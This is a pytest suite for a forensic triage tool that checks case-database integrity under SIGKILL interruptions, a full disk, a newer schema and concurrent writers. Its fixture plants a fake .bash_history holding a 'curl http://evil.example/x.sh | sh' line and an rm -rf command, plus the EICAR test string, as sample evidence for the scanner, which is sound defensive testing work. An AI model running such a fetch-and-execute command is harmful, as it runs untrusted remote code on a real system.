"""Case database safety: kill -9 at random points, disk full, newer schema, two writers.

Everything runs the real CLI in a child process (``python -m forensic_triage``) on images
built by real tools, and checks the case with SQLite itself afterwards.
"""

from __future__ import annotations

import hashlib
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest
from imagebuilders import build_ext4, require_tools

from forensic_triage.jobs.intake import add_evidence
from forensic_triage.sample.generator import build_sample_image
from forensic_triage.store import CaseStore

CLI = [sys.executable, "-m", "forensic_triage"]
# Kills per run: 6 in the suite (about a minute on 2 cores); benchmarks/full_harnesses.py runs 20.
KILL_TRIALS = int(os.environ.get("FT_KILL_TRIALS", "6"))

# Tables compared between an interrupted-and-resumed case and an uninterrupted one: every
# column except the job that wrote the row and autoincrement ids (those follow write order,
# which depends on which worker finished first even without any kill).
_COMPARED = {
    "files": ("SELECT * FROM files ORDER BY id", ("job_id",)),
    "artifacts": ("SELECT * FROM artifacts ORDER BY uid", ("id", "job_id")),
    "yara_hits": ("SELECT * FROM yara_hits ORDER BY file_id, namespace, rule", ("id", "job_id")),
    "content_hits": ("SELECT * FROM content_hits ORDER BY file_id, kind, offset, search", ("id",)),
    "hash_matches": ("SELECT * FROM hash_matches ORDER BY file_id, set_name", ("id",)),
    "timeline": ("SELECT t.*, a.uid AS artifact_uid FROM timeline t LEFT JOIN artifacts a ON a.id = t.artifact_id"
                 " ORDER BY a.uid, t.time_utc, t.event, t.description", ("id", "artifact_id")),
    "file_warnings": ("SELECT file_id, source, kind, message FROM warnings WHERE file_id IS NOT NULL"
                      " ORDER BY file_id, source, kind, message", ()),
}


def snapshot(case: Path) -> dict[str, list[tuple[object, ...]]]:
    out: dict[str, list[tuple[object, ...]]] = {}
    with sqlite3.connect(f"file:{case / 'case.sqlite'}?mode=ro", uri=True) as conn:
        for name, (sql, skip) in _COMPARED.items():
            cur = conn.execute(sql)
            keep = [i for i, d in enumerate(cur.description) if d[0] not in skip]
            out[name] = [tuple(row[i] for i in keep) for row in cur.fetchall()]
    return out


def _tree() -> dict[str, bytes]:
    tree: dict[str, bytes] = {}
    for d in range(12):
        for f in range(80):
            body = f"folder {d} file {f} contact someone{f}@example.com see https://example.org/{d}/{f}\n"
            tree[f"home/user{d}/notes/n{f:03d}.txt"] = (body * (1 + (f * 37) % 90)).encode()
    tree["home/user0/.bash_history"] = b"ls -la\ncurl http://evil.example/x.sh | sh\nrm -rf /tmp/x\n"
    tree["eicar.com"] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
    return tree


@pytest.fixture(scope="module")
def evidence(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    require_tools("mke2fs", "debugfs")
    folder = tmp_path_factory.mktemp("evidence")
    ext4 = build_ext4(folder / "ext4.img", _tree(), size_mb=24)
    sample = folder / "sample.img"
    build_sample_image(sample)
    return [sample, ext4]


def make_case(folder: Path, images: list[Path]) -> Path:
    store = CaseStore.create(folder, case_number="SAFE-1", examiner="tester")
    for i, image in enumerate(images):
        add_evidence(store, image, exhibit=f"EXH-{i + 1}")
    store.close()
    return folder


def triage(case: Path, *extra: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*CLI, "triage", str(case), "--quiet", "--jobs", "2", *extra], capture_output=True,
                          text=True, timeout=timeout)


def assert_usable(case: Path) -> None:
    with sqlite3.connect(case / "case.sqlite") as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    store = CaseStore.open(case)
    problems, _head = store.verify_audit()
    store.close()
    assert problems == []


@pytest.mark.slow
def test_kill_9_at_random_points_then_resume_is_identical(evidence: list[Path], tmp_path: Path) -> None:
    reference = make_case(tmp_path / "reference", evidence)
    started = time.monotonic()
    res = triage(reference)
    duration = time.monotonic() - started
    assert res.returncode == 0, res.stderr
    print(f"uninterrupted run: {duration:.2f} s")
    expected = snapshot(reference)
    assert len(expected["files"]) > 900 and expected["artifacts"] and expected["yara_hits"]
    assert expected["content_hits"]

    pristine = make_case(tmp_path / "pristine", evidence)
    rng = random.Random(20261129)
    landed = chains = 0
    case = tmp_path / "chain0"
    shutil.copytree(pristine, case)
    recorded = 0  # killed runs of this chain that had recorded their job (killed before that: no row)
    while landed < KILL_TRIALS:
        proc = subprocess.Popen([*CLI, "triage", str(case), "--quiet", "--jobs", "2"],
                                stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
        try:
            proc.wait(timeout=rng.uniform(0.05, duration))
        except subprocess.TimeoutExpired:
            os.kill(proc.pid, signal.SIGKILL)  # no clean-up code runs
            proc.wait()
            landed += 1
            jobs = _jobs(case)
            assert_usable(case)
            if len(jobs) > recorded and jobs[-1] == "completed":
                # The kill landed while the process was exiting after it had committed its job: a finished
                # run, so the chain is complete (a kill can never leave a job 'completed' early).
                assert len(jobs) == recorded + 1, jobs
            else:
                if len(jobs) > recorded:  # it recorded its job: 'running' until the next run starts
                    assert len(jobs) == recorded + 1 and jobs[-1] == "running", jobs
                    recorded += 1
                continue
        else:
            # This run finished before its kill: the chain of killed runs is complete.
            assert proc.returncode == 0, proc.stderr.read() if proc.stderr else ""
        got = snapshot(case)
        for table in _COMPARED:
            assert got[table] == expected[table], table
        assert _jobs(case) == ["interrupted"] * recorded + ["completed"]
        chains += 1
        recorded = 0
        case = tmp_path / f"chain{chains}"
        shutil.copytree(pristine, case)
    res = triage(case)
    assert res.returncode == 0, res.stderr
    got = snapshot(case)
    for table in _COMPARED:
        assert got[table] == expected[table], table
    # The chain ended with a kill: every killed run that had recorded its job is named as interrupted (with
    # a stored warning each) once the next run starts; the last run completed.
    assert _jobs(case) == ["interrupted"] * recorded + ["completed"]
    with sqlite3.connect(f"file:{case / 'case.sqlite'}?mode=ro", uri=True) as conn:
        warned = conn.execute("SELECT count(*) FROM warnings WHERE source='jobs' AND kind='interrupted'").fetchone()
    assert warned[0] == recorded
    assert_usable(case)


def _jobs(case: Path) -> list[str]:
    """Outcomes of the case's triage jobs, oldest first."""
    with sqlite3.connect(f"file:{case / 'case.sqlite'}?mode=ro", uri=True) as conn:
        return [r[0] for r in conn.execute("SELECT outcome FROM jobs WHERE kind='triage' ORDER BY id")]


def _mount_tmpfs(where: Path, size_kb: int) -> bool:
    where.mkdir(parents=True, exist_ok=True)
    if os.geteuid() != 0 or shutil.which("mount") is None:
        return False
    res = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size_kb}k", "tmpfs", str(where)],
                         capture_output=True, text=True)
    return res.returncode == 0


def test_disk_full_gives_clear_message_and_intact_case(evidence: list[Path], tmp_path: Path) -> None:
    reference = make_case(tmp_path / "reference", evidence)
    assert triage(reference).returncode == 0
    expected = snapshot(reference)
    built = make_case(tmp_path / "built", evidence)
    small = tmp_path / "small"
    used_kb = sum(p.stat().st_size for p in built.iterdir()) // 1024
    if not _mount_tmpfs(small, used_kb + 160):
        pytest.skip("needs root and tmpfs to make a small, full disk")
    try:
        case = small / "case"
        shutil.copytree(built, case)
        res = triage(case)
        assert res.returncode == 4, (res.returncode, res.stderr)
        assert "is full" in res.stderr and "Traceback" not in res.stderr
        assert res.stderr.strip().splitlines()[-1].startswith("error: ")
        subprocess.run(["mount", "-o", "remount,size=65536k", str(small)], check=True)
        assert_usable(case)
        res = triage(case)
        assert res.returncode == 0, res.stderr
        assert snapshot(case) == expected
    finally:
        subprocess.run(["umount", "-l", str(small)], capture_output=True)


def test_newer_schema_is_refused_and_left_unchanged(evidence: list[Path], tmp_path: Path) -> None:
    case = make_case(tmp_path / "case", evidence[:1])
    db = case / "case.sqlite"
    with sqlite3.connect(db) as conn:
        conn.execute("UPDATE meta SET value='999' WHERE key='schema_version'")
    conn.close()
    before = hashlib.sha256(db.read_bytes()).hexdigest()
    res = triage(case)
    assert res.returncode == 4 and "newer version" in res.stderr and "Traceback" not in res.stderr
    assert hashlib.sha256(db.read_bytes()).hexdigest() == before


def test_second_writer_is_refused_while_first_runs(evidence: list[Path], tmp_path: Path) -> None:
    case = make_case(tmp_path / "case", evidence[:1])
    holder = subprocess.Popen(
        [sys.executable, "-c", "import sys; from forensic_triage.store import CaseStore;"
         f"s = CaseStore.open({str(case)!r}); print('open', flush=True); sys.stdin.readline(); s.close()"],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "open"
        refused = triage(case)
        assert refused.returncode == 4, refused.stderr
        assert "open for writing in another program" in refused.stderr and "Traceback" not in refused.stderr
        # Reading while the writer works is allowed (the GUI and reports do it).
        listed = subprocess.run([*CLI, "case", "show", str(case)], capture_output=True, text=True, timeout=60)
        assert listed.returncode == 0, listed.stderr
    finally:
        holder.communicate("\n", timeout=60)
    res = triage(case)
    assert res.returncode == 0, res.stderr
    assert_usable(case)
